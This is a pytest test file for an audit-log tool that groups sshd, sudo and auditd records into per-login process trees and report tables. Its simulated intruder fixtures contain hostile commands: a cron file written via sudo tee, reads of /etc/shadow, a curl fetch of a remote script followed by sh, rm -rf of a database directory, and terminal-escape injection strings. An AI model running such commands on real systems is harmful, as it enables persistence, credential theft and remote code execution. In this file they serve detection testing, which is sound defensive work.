"""Sessions from events: the grouping, the tree, what is folded, the bounds and the table.

The records are written as the kernel, auditd, sshd, sudo and PAM write them
(tests/support/audit_records.py), stored as the log server stores them, then read and
classified as the report reads them.  The same grouping on a real login's records is in
tests/system/test_sessions.py.
"""

from __future__ import annotations

import pytest

from ansible_collections.whotouched.server_audit.plugins.module_utils._events.assembler import (
    iter_events,
)
from ansible_collections.whotouched.server_audit.plugins.module_utils._events.report import (
    EventFilter,
)
from ansible_collections.whotouched.server_audit.plugins.module_utils._events.risk import (
    classify,
    load_risk_rules,
)
from ansible_collections.whotouched.server_audit.plugins.module_utils._events.sessions import (
    SessionBook,
    format_sessions,
    group_sessions,
    row_text,
    session_rows,
    session_title,
    session_view,
)
from tests.support.audit_records import (
    evtsys,
    exec_records,
    file_records,
    login_records,
    stored,
    user_record,
)

RULES = load_risk_rules()
UNSET = 4294967295


class Records:
    """Records of one sender, with serials and times that go up as a session does."""

    def __init__(self, start=1700000000):
        self.serial = 100
        self.start = start
        self.lines = []

    def _next(self):
        self.serial += 1
        return self.serial, "%d.%03d" % (self.start + self.serial // 10, self.serial % 10 * 100)

    def exec(self, argv, pid, ppid, **options):
        serial, epoch = self._next()
        self.lines += exec_records(argv, serial=serial, epoch=epoch, pid=pid, ppid=ppid, **options)

    def user(self, record_type, pid, **options):
        serial, epoch = self._next()
        self.lines.append(user_record(record_type, pid, serial, epoch=epoch, **options))

    def login(self, pid, **options):
        serial, epoch = self._next()
        self.lines += login_records(pid, serial, epoch=epoch, **options)

    def write(self, path, pid, ppid, **options):
        serial, epoch = self._next()
        self.lines += file_records(path, serial=serial, epoch=epoch, pid=pid, ppid=ppid, **options)

    def events(self, host="web01", address="192.0.2.10"):
        return [classify(event, RULES)
                for event in iter_events(stored(self.lines, host=host, address=address))]


def ssh_login(records, pid=500, ses=3, addr="203.0.113.7"):
    """sshd's records of a login: before the session, the login, its start and terminal."""
    sshd = {"exe": "/usr/sbin/sshd", "addr": addr, "terminal": "ssh", "acct": "alice"}
    records.user("USER_ACCT", pid, auid=UNSET, ses=UNSET, login_name="unset",
                 op="PAM:accounting", **sshd)
    records.user("CRED_ACQ", pid, auid=UNSET, ses=UNSET, login_name="unset",
                 op="PAM:setcred", **sshd)
    records.login(pid, ses=ses)
    records.user("USER_START", pid, ses=ses, **sshd)
    records.user("USER_LOGIN", pid, ses=ses, **dict(sshd, terminal="/dev/pts/1"), op="login")


def mallory_session():
    """A login with sudo from its own terminal (use_pty), refused reads, a watched file
    written, a pipeline, and the logout."""
    records = Records()
    ssh_login(records)
    alice = {"uid": 1000, "euid": 1000, "user_name": "alice"}
    records.exec(["-bash"], 600, 500, exe="/usr/bin/bash", **alice)
    records.exec(["sudo", "tee", "/etc/cron.d/update"], 601, 600, uid=1000, euid=0)
    for record_type in ("USER_ACCT", "USER_CMD", "CRED_REFR", "USER_START"):
        records.user(record_type, 601, acct="root")
    # sudo's terminal process (602) is never executed: tee's parent is unknown
    records.exec(["tee", "/etc/cron.d/update"], 603, 602)
    records.write("/etc/cron.d/update", 603, 602, key="crontab", argv=["tee", "/etc/cron.d/update"],
                  exe="/usr/bin/tee", syscall=257, nametype="CREATE")
    records.user("USER_END", 601, acct="root")
    records.user("CRED_DISP", 601, acct="root")
    for pid in (610, 611, 612):
        records.exec(["cat", "/etc/shadow"], pid, 600, **alice)
        records.write("/etc/shadow", pid, 600, key="denied", argv=["cat", "/etc/shadow"],
                      exe="/usr/bin/cat")
        records.lines[-5] = records.lines[-5].replace("success=yes exit=3", "success=no exit=-13")
    records.exec(["curl", "-fsS", "http://203.0.113.9/x.sh"], 620, 600, **alice)
    records.exec(["sh"], 621, 600, exe="/usr/bin/dash", **alice)
    records.exec(["id"], 622, 621, **alice)
    records.user("USER_END", 500, exe="/usr/sbin/sshd", addr="203.0.113.7", terminal="ssh",
                 op="PAM:session_close")
    return records


def lines_of(view):
    return [(row["depth"], row["level"], row_text(row)) for row in session_rows(view)]


def test_a_login_session_as_a_tree_with_what_is_folded():
    sessions, counts = group_sessions(mallory_session().events())
    assert counts["sessions"] == 1 and counts["truncated"] is False
    session = sessions[0]
    assert {name: session[name] for name in (
        "kind", "host", "address", "session", "login_user", "remote_address", "terminal",
        "service", "open", "level")} == {
        "kind": "login", "host": "web01", "address": "192.0.2.10", "session": 3,
        "login_user": "alice", "remote_address": "203.0.113.7", "terminal": "pts/1",
        "service": "sshd", "open": False, "level": "high"}
    assert lines_of(session) == [
        (0, "info", "-bash"),
        (1, "low", "sudo tee /etc/cron.d/update (as root)"),
        (2, "high", "tee /etc/cron.d/update -> /etc/cron.d/update (create, crontab, high)"),
        (1, "medium", "cat /etc/shadow x3"),
        (2, "medium", "openat /etc/shadow x3 [failed]"),
        (1, "info", "curl -fsS http://203.0.113.9/x.sh"),
        (1, "info", "sh"),
        (2, "info", "id"),
    ]
    # sshd's records before the session (no ses yet) are the login's, not the sender's
    assert [event["record_types"] for event in session["login"]] == [
        ["USER_ACCT"], ["CRED_ACQ"], ["LOGIN"], ["USER_START"], ["USER_LOGIN"],
        ["USER_END"]]
    sudo = session["tree"][0]["children"][0]
    assert [event["record_types"][0] for event in sudo["pam"]] == [
        "USER_ACCT", "USER_CMD", "CRED_REFR", "USER_START", "USER_END", "CRED_DISP"]
    cat = session["tree"][0]["children"][1]
    assert len(cat["repeated"]) == 2 and all(node["calls"] for node in cat["repeated"])
    assert session["counts"] == {"events": 25, "commands": 9, "files": 1, "failed": 3,
                                 "matched": 25}


def test_the_table_for_people():
    sessions, _counts = group_sessions(mallory_session().events())
    assert format_sessions(sessions) == [
        "== [HIGH] alice on web01 (192.0.2.10), session 3",
        "   from 203.0.113.7 via sshd on pts/1, 2023-11-14 22:13:30 to 22:13:32 UTC (closed)",
        "   9 commands, 1 file written, 3 failed; why: scheduled jobs changed; account database"
        " changed; c...",
        "   22:13:30 info     -bash",
        "   22:13:30 low        sudo tee /etc/cron.d/update (as root)",
        "   22:13:31 high         tee /etc/cron.d/update -> /etc/cron.d/update (create, crontab, "
        "high)",
        "   22:13:31 medium     cat /etc/shadow x3",
        "   22:13:31 medium       openat /etc/shadow x3 [failed]",
        "   22:13:32 info       curl -fsS http://203.0.113.9/x.sh",
        "   22:13:32 info       sh",
        "   22:13:32 info         id",
    ]


def test_hostile_text_is_escaped_and_lines_stay_within_the_width():
    records = Records()
    records.exec(["printf", "\x1b[2J\u202eevil\nnext", "x" * 300], 700, 600, ses=5,
                 login_name="mallory")
    sessions, _counts = group_sessions(records.events(host="web\x1b]0;owned\x07"))
    table = format_sessions(sessions, width=80)
    assert table[0] == "== [INFO] mallory on web\\x1b]0;owned\\x07 (192.0.2.10), session 5"
    assert table[-1].startswith("   22:13:30 info     printf \\x1b[2J\\u202eevil\\x0anext xxx")
    assert all(len(line) <= 80 for line in table)
    assert not any(character in "".join(table) for character in "\x1b\u202e\n\x07")


def test_sudo_without_a_terminal_of_its_own_and_an_unknown_parent():
    records = Records()
    records.exec(["sudo", "id"], 701, 600, uid=1000, euid=0)
    records.exec(["id"], 702, 701)  # sudo ran it itself (no use_pty)
    records.exec(["make"], 703, 650)  # its shell was never recorded: a root of its own
    records.exec(["cc", "-c", "x.c"], 704, 703)
    records.exec(["as"], 704, 703)  # the same process executing another program
    sessions, _counts = group_sessions(records.events())
    assert [(depth, text) for depth, _level, text in lines_of(sessions[0])] == [
        (0, "sudo id (as root)"), (1, "id"), (0, "make (as root)"), (1, "cc -c x.c"),
        (2, "as")]


def test_a_services_shells_without_a_login_are_one_story():
    records = Records()
    web = {"uid": 33, "euid": 33, "user_name": "www-data", "auid": UNSET, "login_name": "unset",
           "ses": UNSET}
    # a web server started before the rules were loaded (812): its shells are one story
    records.exec(["sh", "-c", "id; uname -a"], 900, 812, **web)
    records.exec(["id"], 901, 900, **web)
    records.exec(["sh", "-c", "cat /etc/passwd"], 905, 812, **web)
    # a service started by init: its own story
    records.exec(["/usr/bin/python3", "app.py"], 950, 1, **web)
    records.exec(["sh", "-c", "whoami"], 951, 950, **web)
    sessions, _counts = group_sessions(records.events())
    assert [(view["kind"], view["root_pid"], view["parent_pid"], view["program"], view["users"],
             [text for _depth, _level, text in lines_of(view)]) for view in sessions] == [
        ("processes", 812, 812, "sh", ["www-data"],
         ["sh -c id; uname -a", "id", "sh -c cat /etc/passwd"]),
        ("processes", 950, None, "python3", ["www-data"],
         ["/usr/bin/python3 app.py", "sh -c whoami"])]
    assert [view["level"] for view in sessions] == ["high", "high"]
    assert format_sessions(sessions)[0] == (
        "== [HIGH] www-data on web01 (192.0.2.10), no login session: sh (children of pid 812, "
        "not recorded)")


def test_a_pid_used_again_goes_with_its_recorded_parent():
    """Pids 527 and 531 were a boot-time program's unrecorded parent and its child; later a
    shell the service runs (525, then 527) starts processes that get pids 527 and 531: they
    are the shells' children, not that old story's."""
    records = Records()
    web = {"uid": 33, "euid": 33, "user_name": "www-data", "auid": UNSET, "login_name": "unset",
           "ses": UNSET}
    for pid in (530, 531):
        records.exec(["/usr/lib/systemd/system-generators/systemd-debug-generator"], pid, 527,
                     auid=UNSET, login_name="unset", ses=UNSET)
    records.exec(["/usr/bin/python3", "app.py"], 446, 1, **web)
    records.exec(["sh", "-c", "id; uname -a"], 525, 446, **web)
    records.exec(["id"], 526, 525, **web)
    records.exec(["uname", "-a"], 527, 525, **web)
    records.exec(["cat", "/etc/hostname"], 528, 527, **web)  # ... and so its children
    records.exec(["sh", "-c", "cat /etc/issue"], 527, 446, **web)
    records.exec(["cat", "/etc/issue"], 531, 527, **web)
    sessions, _counts = group_sessions(records.events())
    service = next(view for view in sessions if view["root_pid"] == 446)
    assert [(depth, text) for depth, _level, text in lines_of(service)] == [
        (0, "/usr/bin/python3 app.py"), (1, "sh -c id; uname -a"), (2, "id"), (2, "uname -a"),
        (3, "cat /etc/hostname"), (1, "sh -c cat /etc/issue"), (2, "cat /etc/issue")]
    generator = next(view for view in sessions if view["root_pid"] == 527)
    assert [text for _depth, _level, text in lines_of(generator)] == [
        "/usr/lib/systemd/system-generators/systemd-debug-generator"] * 2


def test_a_pid_used_again_in_one_story_goes_with_its_recorded_parent():
    """Pid 527 was a shell's uname; later another shell of the same service, given the first
    shell's pid 525, starts a cat that gets pid 527 again: the cat is that shell's child."""
    records = Records()
    web = {"uid": 33, "euid": 33, "user_name": "www-data", "auid": UNSET, "login_name": "unset",
           "ses": UNSET}
    records.exec(["/usr/bin/python3", "app.py"], 446, 1, **web)
    records.exec(["sh", "-c", "uname -a"], 525, 446, **web)
    records.exec(["uname", "-a"], 527, 525, **web)
    records.exec(["sh", "-c", "sh -c 'cat /etc/issue'"], 526, 446, **web)
    records.exec(["sh", "-c", "cat /etc/issue"], 525, 526, **web)
    records.exec(["cat", "/etc/issue"], 527, 525, **web)
    records.exec(["uname", "-r"], 531, 526, **web)
    sessions, _counts = group_sessions(records.events())
    assert len(sessions) == 1
    assert [(depth, text) for depth, _level, text in lines_of(sessions[0])] == [
        (0, "/usr/bin/python3 app.py"), (1, "sh -c uname -a"), (2, "uname -a"),
        (1, "sh -c sh -c 'cat /etc/issue'"), (2, "sh -c cat /etc/issue"),
        (3, "cat /etc/issue"), (2, "uname -r")]


def test_a_child_stays_itself_when_its_parent_executes_another_program():
    """The shell executes zsh (the same process): vim, started before, still writes the file
    and executes its next program itself."""
    records = Records()
    ssh_login(records)
    records.exec(["-bash"], 600, 500, exe="/usr/bin/bash")
    records.exec(["vim", "/etc/hosts"], 601, 600)
    records.exec(["zsh"], 600, 500, exe="/usr/bin/zsh")
    records.write("/etc/hosts", 601, 600, argv=["vim", "/etc/hosts"], exe="/usr/bin/vim.basic")
    records.exec(["view", "/etc/hosts"], 601, 600)
    sessions, _counts = group_sessions(records.events())
    assert [(depth, text) for depth, _level, text in lines_of(sessions[0])] == [
        (0, "-bash (as root)"), (1, "vim /etc/hosts -> /etc/hosts (write, watch)"),
        (2, "view /etc/hosts"), (1, "zsh")]


def test_a_write_by_a_pid_used_again_is_not_the_old_commands():
    """Pid 602 was the shell's cat; sh's child given pid 602 later writes a cron file before
    it executes tee: the write is tee's, not cat's."""
    records = Records()
    ssh_login(records)
    records.exec(["-bash"], 600, 500, exe="/usr/bin/bash")
    records.exec(["sh", "-c", "tee /etc/cron.d/x"], 601, 600)
    records.exec(["cat", "/etc/issue"], 602, 600)
    records.write("/etc/cron.d/x", 602, 601, argv=["sh", "-c", "tee /etc/cron.d/x"],
                  exe="/usr/bin/dash", key="crontab")
    records.exec(["tee", "/etc/cron.d/x"], 602, 601)
    sessions, _counts = group_sessions(records.events())
    assert [(depth, text) for depth, _level, text in lines_of(sessions[0])] == [
        (0, "-bash (as root)"), (1, "sh -c tee /etc/cron.d/x"),
        (2, "tee /etc/cron.d/x -> /etc/cron.d/x (write, crontab, high)"),
        (1, "cat /etc/issue")]


def test_a_write_by_a_pid_used_again_is_not_an_orphans():
    """Pid 610 was a sleep left to init; a shell's child given pid 610 later writes a file:
    the write is that child's, under the shell, not the sleep's."""
    records = Records()
    ssh_login(records)
    records.exec(["-bash"], 600, 500, exe="/usr/bin/bash")
    records.exec(["sleep", "999"], 610, 1)
    records.exec(["sh", "-c", "tee /etc/hosts"], 607, 600)
    records.write("/etc/hosts", 610, 607, argv=["sh", "-c", "tee /etc/hosts"],
                  exe="/usr/bin/dash")
    sessions, _counts = group_sessions(records.events())
    assert [(depth, text) for depth, _level, text in lines_of(sessions[0])] == [
        (0, "-bash (as root)"), (1, "sh -c tee /etc/hosts"),
        (2, "write /etc/hosts (/usr/bin/dash)"), (0, "sleep 999 (as root)")]


def test_a_child_of_an_unrecorded_parent_stays_itself_when_that_parent_executes():
    """grep's parent 335 was not recorded when grep started; 335 then executes id: grep's
    later write is still grep's."""
    records = Records()
    ssh_login(records)
    records.exec(["-bash"], 600, 500, exe="/usr/bin/bash")
    records.exec(["grep", "x", "/etc/hosts"], 602, 601)
    records.exec(["id"], 601, 600)
    records.write("/etc/hosts", 602, 601, argv=["grep", "x", "/etc/hosts"], exe="/usr/bin/grep")
    sessions, _counts = group_sessions(records.events())
    assert [(depth, text) for depth, _level, text in lines_of(sessions[0])] == [
        (0, "-bash (as root)"), (1, "id"),
        (0, "grep x /etc/hosts (as root) -> /etc/hosts (write, watch)")]


def test_a_pid_once_an_unrecorded_parent_goes_with_its_own_parent():
    """Pid 317 started cat before anything of it was recorded; later a child of the daemon
    301 gets pid 317: it is one of 301's processes."""
    records = Records()
    web = {"uid": 33, "euid": 33, "user_name": "www-data", "auid": UNSET, "login_name": "unset",
           "ses": UNSET}
    records.exec(["sh", "-c", "a"], 320, 301, **web)
    records.exec(["cat", "/x"], 700, 317, **web)
    records.exec(["sh", "-c", "whoami"], 317, 301, **web)
    sessions, _counts = group_sessions(records.events())
    assert [(view["root_pid"], [text for _depth, _level, text in lines_of(view)])
            for view in sessions] == [(301, ["sh -c a", "sh -c whoami"]), (317, ["cat /x"])]


def test_what_belongs_to_no_process_goes_with_its_sender():
    records = Records()
    for _attempt in range(3):
        records.user("USER_AUTH", 990, auid=UNSET, ses=UNSET, login_name="unset", acct="root",
                     exe="/usr/sbin/sshd", addr="198.51.100.4", terminal="ssh",
                     op="PAM:authentication", res="failed")
    records.lines.append(
        "type=USER msg=audit(1700000050.000:300): pid=726 uid=0 auid=4294967295 ses=4294967295 "
        "subj=unconfined msg='op=whotouched-audit-health lost=12 lost_total=52 "
        "since=1700000000.000 backlog=0 backlog_limit=8192 backlog_wait_time=60000 "
        "logging_suspended=no plugin_overflow=no res=success'")
    events = records.events()
    events += [classify(event, RULES) for event in iter_events([evtsys(
        4625, "An account failed to log on. Subject: Account Name: - Account For Which Logon "
        "Failed: Account Name: admin Source Network Address: 198.51.100.4", success=False)])]
    sessions, _counts = group_sessions(events)
    assert [(view["kind"], view["host"], view["session"]) for view in sessions] == [
        ("host", "web01", None), ("host", "DC01", None)]
    assert [text for _depth, _level, text in lines_of(sessions[0])] == [
        "USER_AUTH /usr/sbin/sshd acct=root x3 [failed]",
        "lost 12 audit events between 2023-11-14 22:13:20 and 2023-11-14 22:14:10 (kernel "
        "backlog full or rate limit)"]
    assert sessions[0]["level"] == "high" and sessions[0]["rules"] == ["events-lost"]
    assert lines_of(sessions[1]) == [
        (0, "low", "event 4625 target=admin from=198.51.100.4 [failed]")]


def test_a_heartbeat_is_no_event_of_a_session():
    book = SessionBook()
    assert book.add({"kind": "health", "host": "web01"}) is None and len(book) == 0


def test_the_login_record_begins_a_session_even_when_it_comes_late():
    records = Records()
    records.login(600, ses=7)
    records.exec(["id"], 700, 600, ses=7)
    events = records.events()
    # Without an EOE of its own (some kernels), it is given out after its session's events.
    events.sort(key=lambda event: "LOGIN" in event["record_types"])
    assert events[-1]["record_types"][0] == "LOGIN"
    assert len(group_sessions(events)[0]) == 1
    # The same number after the sender's reboot is another session.
    later = Records(start=1700090000)
    later.login(600, ses=7)
    later.exec(["id"], 701, 600, ses=7)
    sessions, _counts = group_sessions(events + later.events())
    assert [view["session"] for view in sessions] == [7, 7]
    assert sessions[0]["id"] != sessions[1]["id"]


def sshd_tries(records, pids, acct="root", res="failed"):
    """sshd's records of logins tried, one sshd process each, before any session."""
    for pid in pids:
        records.user("USER_AUTH", pid, auid=UNSET, ses=UNSET, login_name="unset", acct=acct,
                     exe="/usr/sbin/sshd", addr="203.0.113.99", terminal="ssh",
                     op="PAM:authentication", res=res)


def dated(events, epoch):
    for event in events:
        event["epoch"] = epoch
    return events


def host_view(book, address):
    return next(session_view(session) for session in book.sessions(False)
                if session.kind == "host" and session.address == address)


def test_records_that_wait_for_a_login_are_bounded_and_none_is_lost():
    """One sshd pid sending 5,000 records dated far ahead, which never stop waiting by time:
    at most 64 wait, the rest are filed with their sender at once, all of them at the end."""
    records = Records()
    sshd_tries(records, [4242] * 5000)
    book = SessionBook(max_events=10000, max_session_events=10000)
    for event in dated(records.events(host="evil", address="198.51.100.66"), 253402300000.0):
        book.add(event)
    assert host_view(book, "198.51.100.66")["counts"]["events"] == 5000 - 64
    book.finish()
    assert host_view(book, "198.51.100.66")["counts"]["events"] == 5000


def test_a_senders_dates_decide_only_when_its_own_records_stop_waiting():
    """A record dated far ahead from one sender neither keeps another sender's failed logins
    waiting nor ends the wait of a login's records that its session is about to claim."""
    evil = Records()
    sshd_tries(evil, [4242])
    web = Records()
    sshd_tries(web, range(3000, 3200))
    later = Records(start=1700003000)
    later.exec(["id"], 900, 1, auid=UNSET, ses=UNSET, login_name="unset")
    book = SessionBook()
    for event in dated(evil.events(host="evil", address="198.51.100.66"), 253402300000.0) + \
            web.events() + later.events():
        book.add(event)
    assert host_view(book, "192.0.2.10")["counts"]["failed"] == 200

    login = Records()
    ssh_login(login)
    events = login.events()
    book = SessionBook()
    for event in events[:2] + dated(evil.events(host="evil", address="198.51.100.66"),
                                    253402300000.0) + events[2:]:
        book.add(event)
    book.finish()
    alice = next(session_view(session) for session in book.sessions(False)
                 if session.kind == "login")
    assert alice["counts"]["events"] == 5
    assert all(session.kind != "host" or session.address != "192.0.2.10"
               for session in book.sessions(False))


def test_hosts_behind_one_relay_are_told_apart_by_their_node():
    """db01's and build7's session 3, both sent through the relay 192.0.2.1: two sessions,
    each titled with its node."""
    records = Records()
    records.exec(["psql"], 700, 600, ses=3, node="db01")
    records.exec(["rm", "-rf", "/var/lib/postgresql"], 701, 600, ses=3, node="build7")
    records.exec(["pg_dump"], 702, 600, ses=3, node="db01")
    sessions, _counts = group_sessions(records.events(host="relay", address="192.0.2.1"))
    assert [(view["node"], [text for _depth, _level, text in lines_of(view)])
            for view in sessions] == [("db01", ["psql (as root)", "pg_dump (as root)"]),
                                      ("build7", ["rm -rf /var/lib/postgresql (as root)"])]
    assert [session_title(view) for view in sessions] == [
        "alice on relay (192.0.2.1) node db01, session 3",
        "alice on relay (192.0.2.1) node build7, session 3"]
    assert sessions[0]["id"] != sessions[1]["id"]


def test_a_flood_from_one_sender_lets_its_own_sessions_go():
    """A full book lets go of the sessions of the address that holds the most events: 50
    one-command sessions from one sender do not push out another host's login."""
    records = mallory_session()
    flood = Records(start=1700000100)
    for number in range(50):
        flood.exec(["id"], 900 + number, 800, ses=100 + number, login_name="bob", auid=1001)
    book = SessionBook(max_sessions=20)
    for event in records.events() + flood.events(host="evil", address="198.51.100.66"):
        book.add(event)
    held = [session_view(session) for session in book.sessions()]
    assert [view["login_user"] for view in held if view["address"] == "192.0.2.10"] == [
        "alice"]
    assert [view["session"] for view in held if view["address"] == "198.51.100.66"] == list(
        range(131, 150))
    assert book.counts["sessions_let_go"] == 31
    # Past max_events, the address that holds the most events lets go
    flood = Records(start=1700000100)
    for number in range(50):
        flood.exec(["id"], 900 + number, 800, ses=100, login_name="bob", auid=1001)
    book = SessionBook(max_events=60)
    for event in records.events() + flood.events(host="evil", address="198.51.100.66"):
        book.add(event)
    held = [session_view(session) for session in book.sessions()]
    assert [(view["login_user"], view["counts"]["events"]) for view in held][0] == ("alice", 25)
    assert [view["login_user"] for view in held][1:] == ["bob"]
    assert book.counts["events_let_go"] >= 15


def test_filters_select_whole_sessions_and_limit_keeps_the_most_recent():
    records = mallory_session()
    records.exec(["uptime"], 801, 800, ses=9, login_name="bob", auid=1001)
    records.exec(["ls"], 802, 800, ses=10, login_name="carol", auid=1002)
    events = records.events()
    sessions, counts = group_sessions(events, EventFilter(search="cron.d").keeps)
    assert [view["login_user"] for view in sessions] == ["alice"]
    assert counts["matched"] == 3 and sessions[0]["counts"]["events"] == 25
    sessions, counts = group_sessions(events, EventFilter(min_level="info").keeps, limit=2)
    assert [view["login_user"] for view in sessions] == ["bob", "carol"]
    assert counts["truncated"] is True and counts["sessions"] == 3


def test_memory_stays_bounded_and_what_is_let_go_is_counted():
    records = Records()
    for number in range(5):
        records.exec(["true"], 700 + number, 600, ses=10 + number)
    events = records.events()
    book = SessionBook(max_sessions=3, max_events=1000, max_session_events=2)
    matched = {12}
    for event in events:
        book.add(event, event["session"] in matched)
    # the least recently active without a match went first; the matched one stays
    assert sorted(session.number for session in book.sessions(matched_only=False)) == [12, 13, 14]
    assert book.counts["sessions_let_go"] == 2 and book.counts["matched_sessions_let_go"] == 0
    for _more in range(3):
        book.add(dict(events[4]), True)
    assert book.get(book.sessions()[-1].id).left_out == 2
    assert book.counts["events_left_out"] == 2
    small = SessionBook(max_sessions=10, max_events=2)
    for event in events[:3]:
        small.add(event, True)
    assert len(small) == 2 and small.counts["matched_sessions_let_go"] == 1


@pytest.mark.parametrize("options, message", [
    ({"max_sessions": 0}, "max_sessions must be a whole number of at least 1, got 0"),
    ({"max_events": "many"}, "max_events must be a whole number of at least 1, got 'many'"),
    ({"max_session_events": True}, "max_session_events must be a whole number of at least 1"),
])
def test_bad_bounds_are_named(options, message):
    with pytest.raises(ValueError, match=message):
        SessionBook(**options)
